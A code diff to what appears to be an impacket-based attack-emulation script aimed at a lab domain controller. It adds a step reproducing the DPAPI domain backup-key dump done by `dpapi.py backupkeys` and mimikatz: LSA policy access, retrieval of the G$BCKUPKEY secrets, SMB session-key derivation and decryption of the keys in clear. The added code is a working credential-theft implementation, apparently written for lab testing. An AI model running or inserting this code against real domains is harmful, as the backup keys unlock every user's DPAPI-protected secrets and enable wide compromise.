@@ -95,8 +95,10 @@ def smb(
     nthash: str = "",
     kerberos_tgt: dict | None = None,
     domain: str = DOMAIN,
+    workstation: str = "",
 ) -> SMBConnection:
-    conn = SMBConnection(DC, DC_IP, sess_port=445)
+    # workstation: the client name NTLM carries (Windows always sends it; impacket: empty)
+    conn = SMBConnection(DC, DC_IP, myName=workstation or None, sess_port=445)
     if kerberos_tgt is not None:
         conn.kerberosLogin(user, "", REALM, TGT=kerberos_tgt, kdcHost=DC, useCache=False)
     else:
@@ -109,6 +111,14 @@ def rpc_over_smb(conn: SMBConnection, pipe: str):
     dce = rpct.get_dce_rpc()
     dce.connect()
     return dce
+
+
+def this_workstation() -> str:
+    """NetBIOS name of the namespace's host (ip netns exec mounts /etc/netns/<ns>/hostname)."""
+    try:
+        return Path("/etc/hostname").read_text().split(".")[0].strip().upper()
+    except OSError:
+        return ""
 
 
 def creds_from(args) -> dict:
@@ -581,7 +591,7 @@ def step_bkrp(args):
     from impacket.dcerpc.v5 import bkrp
     from impacket.dcerpc.v5.rpcrt import RPC_C_AUTHN_LEVEL_PKT_PRIVACY
 
-    conn = smb(**creds_from(args))
+    conn = smb(**creds_from(args), workstation=this_workstation())
     rpct = transport.SMBTransport(DC_IP, 445, r"\protected_storage", smb_connection=conn)
     dce = rpct.get_dce_rpc()
     dce.set_auth_level(RPC_C_AUTHN_LEVEL_PKT_PRIVACY)
@@ -593,6 +603,115 @@ def step_bkrp(args):
         out(f"BackuprKey(RETRIEVE_BACKUP_KEY_GUID): {len(data)} bytes of public key cert")
     except Exception as e:  # noqa: BLE001
         out(f"BackuprKey: {str(e)[:120]}")
+    dce.disconnect()
+    conn.logoff()
+
+
+def _backup_key_guid(preferred: bytes) -> str:
+    """G$BCKUPKEY_PREFERRED / _P hold the GUID of the current key (MS-BKRP 3.1.4.1.1)."""
+    from impacket.uuid import bin_to_string
+
+    return bin_to_string(preferred[:16]).lower()
+
+
+def _lsa_session_key(conn: SMBConnection) -> bytes:
+    """The key LSA secrets are encrypted with over \\pipe\\lsarpc: the SMB session key, for
+    SMB 3.x the application key (MS-SMB2 3.2.5.3.1). impacket derives the application key only
+    when the server offers encryption, which the lab's DC does not (`server smb encrypt = off`),
+    so `getSessionKey()` is empty here: derive it as impacket would."""
+    from impacket import crypto
+    from impacket.smb3structs import SMB2_DIALECT_30, SMB2_DIALECT_311
+
+    key = conn.getSessionKey()
+    if key:
+        return key
+    smb3 = conn.getSMBServer()
+    sess, dialect = smb3._Session, conn.getDialect()
+    if dialect == SMB2_DIALECT_311:
+        return crypto.KDF_CounterMode(
+            sess["SessionKey"], b"SMBAppKey\x00", sess["PreauthIntegrityHashValue"], 128
+        )
+    if dialect >= SMB2_DIALECT_30:
+        return crypto.KDF_CounterMode(sess["SessionKey"], b"SMB2APP\x00", b"SmbRpc\x00", 128)
+    return sess["SessionKey"]
+
+
+def step_dpapi_backupkeys(args):
+    """impacket `dpapi.py backupkeys` / mimikatz `lsadump::backupkeys /system:dc01`.
+
+    Over SMB \\pipe\\lsarpc, as dpapi.py does it (no RPC-level auth: the SMB session
+    authenticates and the stub travels in clear): LsarOpenPolicy2(POLICY_GET_PRIVATE_INFORMATION),
+    then for G$BCKUPKEY_PREFERRED and G$BCKUPKEY_P: LsarRetrievePrivateData (the GUID of the
+    current key) and LsarRetrievePrivateData(G$BCKUPKEY_<guid>) (the key itself). Values are
+    decrypted with the SMB session key (MS-LSAD 5.1.2). --auth-level 5 binds with NTLM packet
+    integrity (signed, not sealed), 6 with packet privacy (sealed).
+
+    Samba implements no LsarRetrievePrivateData (fault nca_s_op_rng_error). The GUID is then
+    read the other way LSA offers, LsarOpenSecret + LsarQuerySecret (what older tools do), so
+    that the G$BCKUPKEY_<guid> retrieval is sent with the real GUID; the key itself is then read
+    with LsarOpenSecret + LsarQuerySecret as well.
+    """
+    from impacket import crypto
+    from impacket.dcerpc.v5 import lsad
+    from impacket.dcerpc.v5.rpcrt import DCERPCException
+
+    conn = smb(**creds_from(args), workstation=this_workstation())
+    rpct = transport.SMBTransport(DC_IP, 445, r"\lsarpc", smb_connection=conn)
+    dce = rpct.get_dce_rpc()
+    level = args.auth_level
+    if level:  # NTLM bind on top of the SMB session (dpapi.py itself binds without)
+        dce.set_credentials(args.user, args.password, DOMAIN, "", args.nthash)
+        dce.set_auth_level(level)
+    dce.connect()
+    dce.bind(lsad.MSRPC_UUID_LSAD)
+    out(f"bound lsarpc over \\pipe\\lsarpc, RPC auth level {level or 'none (SMB session)'}")
+    policy = lsad.hLsarOpenPolicy2(dce, lsad.POLICY_GET_PRIVATE_INFORMATION)["PolicyHandle"]
+    out("LsarOpenPolicy2(POLICY_GET_PRIVATE_INFORMATION): policy handle")
+    session_key = _lsa_session_key(conn)
+
+    def retrieve(name: str) -> bytes | None:
+        try:
+            raw = lsad.hLsarRetrievePrivateData(dce, policy, name)
+        except DCERPCException as e:
+            out(f"LsarRetrievePrivateData({name}): {str(e)[:110]}")
+            return None
+        value = crypto.decryptSecret(session_key, raw)
+        out(f"LsarRetrievePrivateData({name}): {len(raw)} encrypted bytes")
+        return value
+
+    def query(name: str) -> bytes | None:
+        try:
+            h = lsad.hLsarOpenSecret(dce, policy, name, lsad.SECRET_QUERY_VALUE)["SecretHandle"]
+            resp = lsad.hLsarQuerySecret(dce, h)
+        except DCERPCException as e:
+            out(f"LsarOpenSecret/LsarQuerySecret({name}): {str(e)[:110]}")
+            return None
+        raw = b"".join(resp["EncryptedCurrentValue"]["Buffer"]) if resp[
+            "EncryptedCurrentValue"] else b""
+        out(f"LsarOpenSecret + LsarQuerySecret({name}): {len(raw)} encrypted bytes")
+        lsad.hLsarClose(dce, h)
+        return crypto.decryptSecret(session_key, raw) if raw else None
+
+    def describe(name: str, secret: bytes | None) -> None:
+        if secret and len(secret) >= 4:
+            version = struct.unpack("<L", secret[:4])[0]
+            kind = {1: "legacy key", 2: "RSA private key + certificate"}.get(version, "?")
+            out(f"  {name}: version {version} ({kind}), {len(secret)} bytes in clear")
+
+    for pointer in ("G$BCKUPKEY_PREFERRED", "G$BCKUPKEY_P"):
+        current = retrieve(pointer)
+        via_query = current is None
+        if via_query:
+            current = query(pointer)
+        if current is None or len(current) < 16:
+            continue
+        name = f"G$BCKUPKEY_{_backup_key_guid(current)}"
+        out(f"{pointer} -> {name}")
+        secret = retrieve(name)
+        if secret is None and via_query:
+            secret = query(name)
+        describe(name, secret)
+    lsad.hLsarClose(dce, policy)
     dce.disconnect()
     conn.logoff()
 
@@ -863,6 +982,7 @@ def main(argv=None) -> int:
     ap.add_argument("--duration", type=int, default=87600)
     ap.add_argument("--rc4", action="store_true")
     ap.add_argument("--etypes", nargs="*", type=int, default=[ENC_RC4])
+    ap.add_argument("--auth-level", type=int, default=0)  # DCE/RPC auth level, 0: none
     args = ap.parse_args(argv)
     WORK.mkdir(parents=True, exist_ok=True)
     STEPS[args.step](args)
